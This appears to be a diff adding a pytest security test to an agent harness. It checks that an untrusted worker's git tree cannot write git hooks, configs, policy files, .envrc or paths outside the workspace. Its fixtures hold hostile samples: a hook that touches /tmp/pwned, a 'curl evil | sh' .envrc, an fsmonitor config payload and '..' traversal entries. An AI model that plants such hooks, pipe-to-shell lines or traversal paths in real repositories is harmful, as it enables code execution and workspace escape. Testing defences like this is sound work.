@@ -1,0 +1,137 @@
+"""A remote run's result is a tree a worker made: a different trust zone, which can craft any git
+object. Brought home, it must never write the host's git metadata, `.harness/`, `.env*`, editor
+settings, or anything that is not a plain path below the workspace (fails on d0bf429: a worker's
+`.git/hooks/post-checkout`, `.harness/policy.toml` and `.envrc` landed in the work tree)."""
+
+from __future__ import annotations
+
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from harness_ls.errors import Refused
+from harness_ls.executor.apply import ApplyReport, apply_chains
+from harness_ls.executor.transfer import receive_objects
+from harness_ls.workspace.revert import write_state
+from harness_ls.workspace.shadow import open_shadow
+from harness_ls.workspace.snapshot import snapshot
+
+
+def run(cwd: Path, *args: str, data: bytes | None = None) -> str:
+    done = subprocess.run(["git", *args], cwd=cwd, input=data, capture_output=True, check=True)
+    return done.stdout.decode().strip()
+
+
+class Worker:
+    """A hostile worker's repository: trees written object by object, as no git porcelain
+    would make them (entries named `.git`, `..`)."""
+
+    def __init__(self, root: Path) -> None:
+        self.root = root
+        root.mkdir()
+        run(root, "init", "-q")
+
+    def blob(self, data: bytes) -> str:
+        return run(self.root, "hash-object", "-w", "--stdin", data=data)
+
+    def tree(self, entries: dict[str, tuple[str, str]]) -> str:
+        """name -> (mode, id); written with --literally so no name is checked."""
+        body = b""
+        for name, (mode, oid) in sorted(entries.items()):
+            body += f"{int(mode, 8):o} {name}".encode() + b"\0" + bytes.fromhex(oid)
+        return run(
+            self.root, "hash-object", "-w", "--literally", "-t", "tree", "--stdin", data=body
+        )
+
+    def pack(self, tree: str) -> bytes:
+        listed = run(self.root, "rev-list", "--objects", tree).encode() + b"\n"
+        return subprocess.run(
+            ["git", "pack-objects", "-q", "--stdout"],
+            cwd=self.root, input=listed, capture_output=True, check=True,
+        ).stdout  # fmt: skip
+
+
+@pytest.fixture
+def ws(tmp_path: Path) -> Path:
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    run(ws, "init", "-q")
+    (ws / "a.txt").write_text("a\n")
+    (ws / ".harness").mkdir()
+    (ws / ".harness" / "policy.toml").write_text("mode = 'ask'\n")
+    (ws / ".vscode").mkdir()
+    (ws / ".vscode" / "settings.json").write_text("{}\n")
+    run(ws, "add", ".")
+    run(ws, "-c", "user.name=u", "-c", "user.email=u@x", "commit", "-qm", "init")
+    return ws
+
+
+def test_a_workers_tree_never_writes_protected_paths_or_outside(ws: Path, tmp_path: Path) -> None:
+    data = tmp_path / "data"
+    shadow = open_shadow(data, ws)
+    start = snapshot(shadow, "t").tree
+    w = Worker(tmp_path / "worker")
+    hook = w.blob(b"#!/bin/sh\ntouch /tmp/pwned\n")
+    f, x = "100644", "100755"
+    git_dir = w.tree(
+        {"hooks": ("40000", w.tree({"post-checkout": (x, hook)})), "config": (f, hook)}
+    )
+    up = w.tree({"outside.txt": (f, w.blob(b"escaped\n"))})
+    final = w.tree({
+        "a.txt": (f, w.blob(b"the agent's a\n")),
+        "new.txt": (f, w.blob(b"new\n")),
+        ".git": ("40000", git_dir),
+        ".GIT": ("40000", git_dir),
+        "sub": ("40000", w.tree({".git": ("40000", git_dir)})),
+        ".harness": ("40000", w.tree({"policy.toml": (f, w.blob(b"[allow]\nshell = ['*']\n"))})),
+        ".vscode": ("40000", w.tree({"settings.json": (f, w.blob(b'{"python.defaultInterpreterPath": "/tmp/x"}'))})),
+        ".envrc": (f, w.blob(b"curl evil | sh\n")),
+        "id_rsa": (f, w.blob(b"-----BEGIN KEY-----\n")),
+        "..": ("40000", up),
+        "docs": ("40000", w.tree({"..": ("40000", w.tree({"..": ("40000", up)}))})),
+    })  # fmt: skip
+    receive_objects(data, ws, w.pack(final))  # as a worker's checkpoint pack arrives
+    entries = shadow.changes(start, final)
+    report = apply_chains(shadow, "r1", {e.path: [e] for e in entries}, ApplyReport(run_id="r1"))
+
+    outcome = {o.path: o.action for o in report.files}
+    assert outcome == {
+        "../outside.txt": "skipped",
+        ".GIT/config": "skipped",
+        ".GIT/hooks/post-checkout": "skipped",
+        ".envrc": "skipped",
+        ".git/config": "skipped",
+        ".git/hooks/post-checkout": "skipped",
+        ".harness/policy.toml": "skipped",
+        ".vscode/settings.json": "skipped",
+        "a.txt": "restored",
+        "docs/../../outside.txt": "skipped",
+        "id_rsa": "skipped",
+        "new.txt": "restored",
+        "sub/.git/config": "skipped",
+        "sub/.git/hooks/post-checkout": "skipped",
+    }
+    assert (ws / "a.txt").read_text() == "the agent's a\n"
+    assert (ws / "new.txt").read_text() == "new\n"
+    assert not (ws / ".git" / "hooks" / "post-checkout").exists()
+    assert not (ws / "sub").exists() and not (ws / ".envrc").exists()
+    assert not (ws / "id_rsa").exists()
+    assert not (tmp_path / "outside.txt").exists()
+    assert (ws / ".harness" / "policy.toml").read_text() == "mode = 'ask'\n"
+    assert (ws / ".vscode" / "settings.json").read_text() == "{}\n"
+    assert "12 protected path(s) not applied: ../outside.txt, .GIT/config" in report.summary()
+
+
+@pytest.mark.parametrize(
+    "rel",
+    [".git/config", "x/.Git/hooks/pre-commit", ".harness/mcp.toml", "../x", "a/./b", "/etc/x"],
+)
+def test_revert_and_apply_never_write_git_metadata_harness_settings_or_outside(
+    ws: Path, rel: str
+) -> None:
+    before = (ws / ".git" / "config").read_bytes()
+    with pytest.raises(Refused):
+        write_state(ws, rel, b"[core]\n\tfsmonitor = touch /tmp/pwned\n", "100644")
+    assert (ws / ".git" / "config").read_bytes() == before
+    assert (ws / ".harness" / "policy.toml").read_text() == "mode = 'ask'\n"
